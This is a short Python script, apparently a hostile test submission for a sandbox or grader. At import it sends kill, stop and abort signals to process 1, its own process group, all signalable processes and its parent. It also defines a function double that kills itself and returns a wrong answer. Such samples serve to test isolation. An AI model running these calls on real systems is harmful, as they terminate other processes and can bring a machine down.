# tries: kill process 1, itself, all of its group and everything that it can name
import os
import signal

for number in (1, 0, -1, os.getppid()):
    for what in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGABRT):
        try:
            os.kill(number, what)
        except OSError:
            pass


def double(x):
    os.kill(os.getpid(), signal.SIGKILL)
    return 5
